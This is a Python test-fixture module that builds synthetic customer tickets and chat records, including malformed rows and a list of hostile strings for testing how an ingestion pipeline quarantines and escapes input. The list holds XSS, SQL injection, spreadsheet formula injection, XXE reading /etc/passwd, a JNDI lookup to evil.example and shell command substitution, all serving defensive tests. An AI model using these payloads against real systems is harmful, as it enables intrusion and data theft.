"""The rows of the hostile project: good ones, and beside them every kind of bad one with the verdict it should get.

Builds texts and tables only; where they land is in `hostile_landing`. Holds no test.
"""

from __future__ import annotations

import csv
import io
import json
from dataclasses import dataclass
from datetime import datetime, timedelta
from typing import Any

from tests.hostile.hostile_canaries import IBAN, PEOPLE, Person

COLUMNS = (
    *("ticket", "customer", "email", "phone", "name", "iban", "moment", "ended", "activity", "channel", "who", "team"),
    *("topic", "segment", "rev", "score", "happy", "note"),
)
Row = dict[str, str]


@dataclass(frozen=True)
class Bad:
    """A row that is quarantined: its text as it stands in the file, and what is to be said of it."""

    line: str
    reason: str
    column: str | None
    detail: str


def person(number: int) -> Person:
    """The planted people first, then as many others as are wanted."""
    if number < len(PEOPLE):
        return PEOPLE[number]
    return Person(f"Klant {number}", f"klant{number}@voorbeeld.example", f"06 1234 {number:04d}", f"C-{number}")


def ticket(number: int, asker: int, moment: str, activity: str = "Asked", **changed: str) -> Row:
    someone = person(asker)
    plain = dict.fromkeys(COLUMNS, "")
    plain |= {"ticket": f"T{number}", "customer": someone.customer, "email": someone.email, "phone": someone.phone}
    plain |= {"name": someone.name, "iban": IBAN if asker == 0 else "", "moment": moment, "activity": activity}
    return plain | {"channel": "phone", "who": "customer", "rev": "1", "note": "7"} | changed


def line(row: Row, names: tuple[str, ...] = COLUMNS) -> str:
    text = io.StringIO(newline="")
    csv.writer(text, lineterminator="\n").writerow([row[name] for name in names])
    return text.getvalue()


def csv_file(lines: list[str], header: tuple[str, ...] = COLUMNS) -> bytes:
    return (",".join(header) + "\n" + "".join(lines)).encode()


def day_of_tickets(day: int, count: int = 20) -> list[Row]:
    """An ordinary day: every other contact is answered, some are rated."""
    began = datetime(2026, 3, 28, 8) + timedelta(days=day)
    rows = []
    for number in range(count):
        moment = f"{began + timedelta(minutes=20 * number)}"
        extra = {"activity": "Looked up", "who": "organisation", "team": "desk"} if number % 5 == 4 else {}
        extra |= {"score": str(1 + number % 5)} if number % 5 == 1 else {}
        rows.append(ticket(1000 * day + number, (3 * day + number) % 12, moment, **extra))
    return rows


_MOMENT = "2026-04-01 10:00:00"


def _bad(reason: str, column: str | None, detail: str, **changed: str) -> Bad:
    row = ticket(0, 0, _MOMENT) | {"ticket": f"B-{reason}-{column}"} | changed
    return Bad(line(row), reason, column, detail)


def bad_tickets() -> list[Bad]:
    victim = PEOPLE[1]
    return [
        _bad("unparsable_time", "moment", "found 'morgen'; expected %Y-%m-%d %H:%M:%S", moment="morgen"),
        _bad("missing_time", "moment", "a time is needed", moment=""),
        _bad("far_future", "moment", "time.max_future", moment="2031-01-01 00:00:00"),
        _bad("implausibly_old", "moment", "time.not_before", moment="1900-01-01 00:00:00"),
        _bad("nonexistent_time", "moment", "the clocks went forward", moment="2026-03-29 02:30:00"),
        _bad("ambiguous_time", "moment", "the clocks went back", moment="2025-10-26 02:30:00"),
        _bad("end_before_start", "ended", "before occurred_at", ended="2026-04-01 09:59:59"),
        _bad("unparsable_time", "ended", "found 'later'", ended="later"),
        _bad("missing_activity", "activity", "an event needs an activity", activity="  "),
        _bad(
            "unknown_initiator", "who", "found 'robot'; expected customer, organisation, system, partner", who="robot"
        ),
        _bad("score_out_of_range", "score", "found '9'; expected a number from 1 (worst) to 5 (best)", score="9"),
        _bad("expression_failed", "rev", "expected a number or a time", rev="drie"),
        _bad("expression_failed", "note", "found a value like ", note=f"mail {victim.email} or {victim.customer}"),
        Bad(f"{victim.name},{victim.email},{victim.customer}\n", "malformed_row", None, "found 3 values, expected 18"),
        Bad(f"x,{victim.phone}" + ",y" * 30 + "\n", "malformed_row", None, "found 32 values, expected 18"),
    ]


LITERALS = ("NA", "null", "0", "None", "nan", "-")


def literal_tickets() -> list[Row]:
    """Ids that a careless reader turns into nothing; customers that are nobody's, or none at all."""
    rows = [ticket(0, 20, f"2026-04-01 11:00:0{n}") | {"ticket": text} for n, text in enumerate(LITERALS)]
    nobody = {"email": "", "phone": "", "name": ""}
    for number, customer in enumerate(("NA", "null", "0", "", "TEST-1", "  ")):
        changed = nobody | {"customer": customer, "activity": "Asked anonymously"}
        rows.append(ticket(8000 + number, 20, f"2026-04-01 12:00:0{number}") | changed)
    return rows


LONG = "lang " * 2000
HOSTILE = (
    "<script>alert(1)</script>",
    '=HYPERLINK("http://evil.example","x")',
    "first line\nsecond line\r\nthird",
    "'; DROP TABLE events;--",
    "{{7*7}}{% raw %}",
    LONG,
    "../../etc/passwd",
    "\x1b[31mred\x1b]0;title\x07\x9b2J",
    "safe\u202egnp.exe\u2066",
    "[red]markup[/red][link=http://evil.example]x[/link]",
    '"><img src=x onerror=alert(1)>',
    "</title><svg/onload=alert(1)>&amp;&#x3c;",
    "]]><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "+1|cmd' /C calc'!A0",
    "@SUM(1)",
    "-- ${jndi:ldap://evil.example/a} `id` $(id)",
    "NULL\\N\u0000with a NUL",
    "\ufeff\u200bzero width",
    "emoji 🧨 and Ünïcödé",
    "javascript:alert(1)",
    " leading and trailing ",
)


def hostile_tickets() -> list[Row]:
    """Each hostile text as activity, channel, team, topic, segment and kept attribute; then an answer days later."""
    rows = []
    for number, text in enumerate(HOSTILE):
        everywhere = dict.fromkeys(("channel", "team", "topic", "segment", "happy"), text)
        began = datetime(2026, 3, 10, 9) + timedelta(hours=number)
        rows.append(ticket(5000 + number, 30 + number, f"{began}", text, **everywhere))
        rows.append(ticket(6000 + number, 30 + number, f"{began + timedelta(days=9 - number / 4)}", "Answered"))
    return rows


def repeated_tickets() -> list[Row]:
    """Of the first day: one as it was, one newer, one older than what is known; and a new one, twice."""
    first = day_of_tickets(1)
    new = ticket(7000, 4, "2026-04-01 15:00:00")
    newer = first[1] | {"rev": "2", "activity": "Asked, corrected"}
    return [first[0], newer, first[2] | {"rev": "0", "activity": "Asked, outdated"}, new, new]


def chat(number: int, who: int, began: Any, what: str = "Chatted", took: int = 60_000) -> dict[str, Any]:
    someone = person(who)
    words = f"ik ben {someone.name}, bel {someone.phone} of mail {someone.email}"
    return {
        "chat": f"K{number}",
        "began": began,
        "took": took,
        "what": what,
        "who": {"customer": someone.customer, "email": someone.email},
        "words": words,
    }


BEGAN = 1_775_030_400_000
"""2026-04-01 08:00 UTC, in milliseconds."""


def day_of_chats() -> list[str]:
    return [json.dumps(chat(number, number % 12, BEGAN + 600_000 * number)) + "\n" for number in range(20)]


def bad_chats() -> list[Bad]:
    victim = PEOPLE[2]

    def bad(reason: str, column: str | None, detail: str, **changed: Any) -> Bad:
        return Bad(json.dumps(chat(100, 1, BEGAN) | changed) + "\n", reason, column, detail)

    return [
        bad("unparsable_time", "began", "a number (ms since 1970)", began="straks", took=None),
        bad("far_future", "began", "max_future", began=10**14),
        bad("end_before_start", "began", "before occurred_at", took=-60_000),
        bad("expression_failed", "began", "the expression of ended_at fails", took="lang"),
        bad("no_identifier", "customer", "anonymous: keep", who={"customer": None, "email": " "}),
        bad("no_identifier", "customer", "anonymous: keep", who={"customer": "TEST-7"}),
        bad("no_identifier", "customer", "anonymous: keep", who={}),
        bad("missing_activity", "what", "an event needs an activity", what=""),
        Bad(f'{{"chat": "K7", "words": "{victim.name}, {victim.email}\n', "malformed_row", None, "not a JSON document"),
        Bad(f'["{victim.customer}", "{victim.phone}"]\n', "malformed_row", None, "not a JSON document"),
        Bad(f"{victim.name};{victim.phone}\n", "malformed_row", None, "not a JSON document"),
    ]


ESCAPES = ('"nul \\u0000 inside"', '"lone \\ud83d surrogate"', '"pair \\ud83e\\udde8"', '"tab\\tand \\u001b[2J"')
"""Activities as they stand in JSON."""


def escaped_chats() -> list[str]:
    lines = []
    for number, text in enumerate(ESCAPES):
        told = json.dumps(chat(200 + number, 60 + number, BEGAN + number, "@"))
        lines.append(told.replace('"@"', text) + "\n")
    return lines


def order(number: int, who: int, moment: datetime, what: str = "Ordered") -> dict[str, Any]:
    return {"number": f"{number}", "customer": person(who).customer, "moment": moment, "what": what}
